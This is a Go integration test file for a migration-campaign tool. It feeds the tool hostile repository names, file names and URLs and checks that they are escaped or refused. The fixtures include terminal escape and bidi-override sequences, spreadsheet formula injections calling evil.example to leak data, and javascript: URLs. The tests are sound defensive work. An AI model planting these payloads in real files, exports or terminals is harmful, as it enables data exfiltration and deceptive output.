package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/tandem-dev/tandem"
	"github.com/tandem-dev/tandem/gitx/gittest"
	"github.com/tandem-dev/tandem/sqlstore"
	"github.com/tandem-dev/tandem/sqlstore/sqlstoretest"
)

// hostileName is a repository name that retitles a terminal, turns its
// text red (with the 8-bit CSI: a 7-bit "\x1b[" in a repository's path
// makes git objects unreadable, so such a codebase is never a target),
// starts a new line and reverses what follows.
const hostileName = "evil\x1b]0;pwned\x07\u009b31m\nname\u202e"

// hostileFile is a file name that clears the screen.
const hostileFile = "main\x1b[2J.go"

// hostileFormula is a file name that a spreadsheet runs as a formula (a
// file name has no slash), and hostileURL a ticket URL of legacy data
// that does the same.
const (
	hostileFormula = `=HYPERLINK("evil.example","click")`
	hostileURL     = `=HYPERLINK("http://evil.example/?leak","click")`
)

// hostileFleet makes repositories whose names and files attack who reads
// them (a terminal, a spreadsheet) and a catalog with a migration that
// targets them all.
func hostileFleet(t *testing.T) (catalog string) {
	t.Helper()
	root := t.TempDir()
	repos := filepath.Join(root, "repos")
	gittest.Init(t, filepath.Join(repos, "payments-api"), map[string]string{
		"CODEOWNERS": "* @acme/payments\n", hostileFormula + ".go": logrusImport,
	})
	gittest.Init(t, filepath.Join(repos, hostileName), map[string]string{
		"CODEOWNERS": "* @acme/payments\n", hostileFile: logrusImport,
	})
	gittest.Init(t, filepath.Join(repos, "search"), map[string]string{
		"CODEOWNERS": "* @acme/search\n", "main.go": logrusImport,
	})
	catalog = filepath.Join(root, "catalog.yaml")
	writeFile(t, catalog, `apiVersion: tandem.dev/v1
kind: CodeHost
metadata: {name: acme}
spec: {type: local, path: repos}
---
apiVersion: tandem.dev/v1
kind: Team
metadata: {name: payments}
spec: {type: stream-aligned}
---
apiVersion: tandem.dev/v1
kind: Team
metadata: {name: search}
spec: {type: stream-aligned}
---
`+logrusMigration(""))
	return catalog
}

// TestHostileInput attacks a running server and the CLI with what other
// teams' repositories and users can put in names, files and URLs: URLs
// that are not http(s) are refused at adoption, the export neutralises
// formulas (even those stored before URLs were checked), and the CLI
// escapes control characters in every text it prints while its JSON stays
// exact.
func TestHostileInput(t *testing.T) {
	t.Parallel()
	for _, engine := range sqlstoretest.Engines(t) {
		t.Run(engine.Name, func(t *testing.T) {
			url := startServer(t, engine.DSN)
			catalog := hostileFleet(t)
			cli := func(args ...string) string {
				t.Helper()
				code, out, errOut := tandemCLI(t, url, args...)
				if code != 0 {
					t.Fatalf("%q exited %d: %s", args, code, errOut)
				}
				return out
			}
			cli("apply", "-f", catalog)
			cli("scan", "--wait")
			var codebases []tandem.Codebase
			getJSON(t, url, &codebases, "get", "codebases", "-o", "json")
			names := map[string]bool{}
			for _, c := range codebases {
				names[c.Name] = true
			}
			if !names[hostileName] || !names["payments-api"] || len(codebases) != 3 {
				t.Fatalf("get codebases -o json = %+v; want the hostile name exact among 3", codebases)
			}

			t.Run("AdoptRefusesURLsThatAreNotHTTP", func(t *testing.T) {
				for _, tt := range []struct{ body, msg string }{
					{`{"codebase": "search", "ticket": "javascript:alert(1)"}`, `ticket: \"javascript:alert(1)\" is not an http(s) URL`},
					{`{"codebase": "search", "ticket": "=HYPERLINK(\"http://x\")"}`, `ticket: \"=HYPERLINK(\\\"http://x\\\")\" is not an http(s) URL`},
					{`{"codebase": "search", "pr": "/acme/search/pulls/1"}`, `pr: \"/acme/search/pulls/1\" is not an http(s) URL`},
					{`{"codebase": "search", "pr": "https://git.example@evil.example/x"}`, `pr: \"https://git.example@evil.example/x\" carries credentials`},
				} {
					status, body := postJSON(t, url+"/api/v1/campaigns/logrus-to-obslog/adopt", tt.body)
					if status != http.StatusUnprocessableEntity || !strings.Contains(body, tt.msg) {
						t.Errorf("adopt %s: %d %s; want 422 with %s", tt.body, status, body, tt.msg)
					}
				}
				code, _, errOut := tandemCLI(t, url, "campaign", "adopt", "logrus-to-obslog", "--codebase", "search", "--pr", "javascript:alert(document.cookie)")
				if want := `error: pr: "javascript:alert(document.cookie)" is not an http(s) URL`; code != 1 || !strings.Contains(errOut, want) {
					t.Errorf("campaign adopt --pr javascript: exited %d: %q; want 1 and %q", code, errOut, want)
				}
				var c tandem.Campaign
				getJSON(t, url, &c, "campaign", "status", "logrus-to-obslog", "-o", "json")
				for _, tg := range c.Targets {
					if tg.Ticket != nil || tg.PullRequest != nil || tg.State != tandem.TargetPending {
						t.Errorf("after refused adoptions, %q is %s with ticket %+v and pull request %+v", tg.Codebase, tg.State, tg.Ticket, tg.PullRequest)
					}
				}
				if got := cli("campaign", "adopt", "logrus-to-obslog", "--codebase", "search", "--ticket", "https://tracker.example/SEA-1"); got != "search: ticketed\n" {
					t.Errorf("adopting an https ticket printed %q, want search: ticketed", got)
				}
			})

			t.Run("ExportNeutralisesFormulas", func(t *testing.T) {
				// A ticket adopted before URLs were checked.
				db, err := sqlstore.Open(t.Context(), engine.DSN)
				if err != nil {
					t.Fatal(err)
				}
				defer db.Close()
				var id int64
				now := time.Now().UTC()
				if err := db.SQL().QueryRowContext(t.Context(), `INSERT INTO tickets (tracker, migration, team, codebase, title, body, state, url, marker, created_at)
					VALUES ('external', $1, $2, '', $3, '', $4, $5, $6, $7) RETURNING id`,
					"logrus-to-obslog", "payments", "Adopted ticket", tandem.TicketOpen, hostileURL, "legacy", now).Scan(&id); err != nil {
					t.Fatal(err)
				}
				if _, err := db.SQL().ExecContext(t.Context(), `UPDATE targets SET state = $1, team = $2, ticket_id = $3, ticketed_at = $4
					WHERE migration = $5 AND codebase = $6`, tandem.TargetTicketed, "payments", id, now, "logrus-to-obslog", "payments-api"); err != nil {
					t.Fatal(err)
				}

				status, raw := asAdmin(t, http.MethodGet, url+"/api/v1/campaigns/logrus-to-obslog/export", "")
				if status != http.StatusOK {
					t.Fatalf("export: %d %s", status, raw)
				}
				rows, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
				if err != nil {
					t.Fatalf("export is not CSV: %v\n%s", err, raw)
				}
				var payments []string
				for _, row := range rows[1:] {
					for _, cell := range row {
						if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
							t.Errorf("export cell %q of row %q begins with a formula character", cell, row)
						}
					}
					if row[0] == "payments-api" {
						payments = row
					}
				}
				if payments == nil {
					t.Fatalf("export has no row for payments-api:\n%s", raw)
				}
				if got, want := payments[3], "'"+hostileURL; got != want {
					t.Errorf("ticket_url = %q, want %q", got, want)
				}
				if got, want := payments[7], "'"+hostileFormula+".go:3"; got != want {
					t.Errorf("evidence = %q, want %q", got, want)
				}
				if want := `,"'=HYPERLINK(""http://evil.example/?leak"",""click"")",open,`; !bytes.Contains(raw, []byte(want)) {
					t.Errorf("exported bytes lack %s:\n%s", want, raw)
				}
			})

			t.Run("TheCLIEscapesControlCharacters", func(t *testing.T) {
				const name, file = `evil\x1b]0;pwned\a\u009b31m\nname\u202e`, `main\x1b[2J.go`
				for _, tt := range []struct {
					args  []string
					shown []string
				}{
					{[]string{"get", "codebases"}, []string{name}},
					{[]string{"campaign", "status", "logrus-to-obslog"}, []string{name, file + ":3"}},
					{[]string{"campaign", "launch", "logrus-to-obslog", "--dry-run"}, []string{"(" + name + ")", file}},
				} {
					out := cli(tt.args...)
					if i := strings.IndexAny(out, "\x1b\x07\r\u009b\u202e"); i >= 0 {
						t.Errorf("%q printed a raw control character at %d:\n%q", tt.args, i, out)
					}
					for _, want := range tt.shown {
						if !strings.Contains(out, want) {
							t.Errorf("%q does not show %s:\n%s", tt.args, want, out)
						}
					}
				}
				if got, want := strings.Count(cli("get", "codebases"), "\n"), 4; got != want {
					t.Errorf("get codebases printed %d lines, want %d: a header and a line per codebase", got, want)
				}
				code, _, errOut := tandemCLI(t, url, "campaign", "adopt", "logrus-to-obslog", "--codebase", "ghost\x1b[2J", "--ticket", "https://tracker.example/1")
				if code != 1 || strings.ContainsAny(errOut, "\x1b") {
					t.Errorf("an error naming a hostile codebase exited %d and printed %q, raw", code, errOut)
				}
				var c tandem.Campaign
				getJSON(t, url, &c, "campaign", "status", "logrus-to-obslog", "-o", "json")
				if got := c.Targets[0].Codebase; got != hostileName {
					t.Errorf("campaign status -o json: first codebase %q, want %q exact", got, hostileName)
				}
			})
		})
	}
}

// postJSON posts body to url as the tests' admin and returns the status
// and the answer, which must be JSON.
func postJSON(t *testing.T, url, body string) (int, string) {
	t.Helper()
	status, b := asAdmin(t, http.MethodPost, url, body)
	var v json.RawMessage
	if json.Unmarshal(b, &v) != nil {
		t.Errorf("POST %s answered no JSON: %s", url, b)
	}
	return status, string(b)
}

// asAdmin sends body (if any, as JSON) to url as the tests' admin and
// returns the status and the answer's bytes.
func asAdmin(t *testing.T, method, url, body string) (int, []byte) {
	t.Helper()
	contentType := ""
	if body != "" {
		contentType = "application/json"
	}
	got := request(t, method, url, contentType, body, bearer(testAdminToken))
	return got.status, []byte(got.body)
}
